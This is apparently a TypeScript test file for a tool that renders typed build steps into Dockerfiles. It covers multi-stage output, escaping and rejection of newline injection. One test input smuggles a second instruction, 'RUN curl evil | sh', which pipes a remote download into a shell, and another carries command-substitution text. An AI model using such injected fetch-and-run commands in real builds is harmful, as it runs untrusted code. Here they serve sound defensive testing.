import * as assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { BuildStage, Protocol } from '../../lib';
import { renderDockerfile } from '../../lib/synth/render-dockerfile';

describe('renderDockerfile (Image.fromBuildSteps)', () => {
  it('renders a multi-stage build in order, exec forms as JSON', () => {
    const rendered = renderDockerfile([
      BuildStage.fromImage('debian:bookworm-slim', { stageName: 'build' })
        .arg('VERSION', '1.0')
        .workdir('/src')
        .copyFiles(['requirements.txt'], './')
        .run('make all'),
      BuildStage.fromImage('busybox:1.36')
        .copyFromStage('build', ['/src/out'], '/app', { chown: 'app:app' })
        .env('MODE', 'production')
        .label('org.example.team', 'platform')
        .user('app')
        .expose(8080, Protocol.TCP)
        .healthcheck(['wget', '-q', 'http://127.0.0.1:8080/'], { interval: '5s', retries: 2 })
        .entrypoint(['/app/server'])
        .cmd(['--port', '8080']),
    ], 'stages');
    assert.deepEqual(rendered.problems, []);
    assert.equal(rendered.text, [
      '# Rendered by hoist from typed build steps; do not edit.',
      '',
      'FROM debian:bookworm-slim AS build',
      'ARG VERSION="1.0"',
      'WORKDIR /src',
      'COPY ["requirements.txt","./"]',
      'RUN make all',
      '',
      'FROM busybox:1.36',
      'COPY --from=build --chown=app:app ["/src/out","/app"]',
      'ENV MODE="production"',
      'LABEL org.example.team="platform"',
      'USER app',
      'EXPOSE 8080/tcp',
      'HEALTHCHECK --interval=5000ms --retries=2 CMD ["wget","-q","http://127.0.0.1:8080/"]',
      'ENTRYPOINT ["/app/server"]',
      'CMD ["--port","8080"]',
      '',
    ].join('\n'));
  });

  it('escapes quotes, backslashes and $ in ENV values so nothing expands', () => {
    const rendered = renderDockerfile([BuildStage.fromImage('busybox').env('X', 'a"b\\c$HOME `id`')], 'stages');
    assert.match(rendered.text, /^ENV X="a\\"b\\\\c\\\$HOME `id`"$/m);
  });

  it('rejects values that would start a second instruction', () => {
    const rendered = renderDockerfile([
      BuildStage.fromImage('busybox').run('echo hi\nRUN curl evil | sh').label('a', 'x\ny').workdir('/a\n/b'),
    ], 'stages');
    assert.deepEqual(rendered.problems, [
      'stages[0].steps[0] (run): the command must be one non-empty line (chain steps with && or use several run steps)',
      'stages[0].steps[1] (label): the value must be one line',
      'stages[0].steps[2] (workdir): the path must be one non-empty line',
    ]);
  });

  it('FROM may name an earlier stage but not a later or unknown one', () => {
    assert.deepEqual(renderDockerfile([BuildStage.fromImage('busybox', { stageName: 'base' }), BuildStage.fromImage('base')], 's').problems, []);
    assert.deepEqual(renderDockerfile([BuildStage.fromImage('Not An Image'), BuildStage.fromImage('busybox', { stageName: 'later' })], 's').problems, [
      's[0].baseImage: "Not An Image" is neither an image reference nor an earlier stage',
    ]);
  });
});
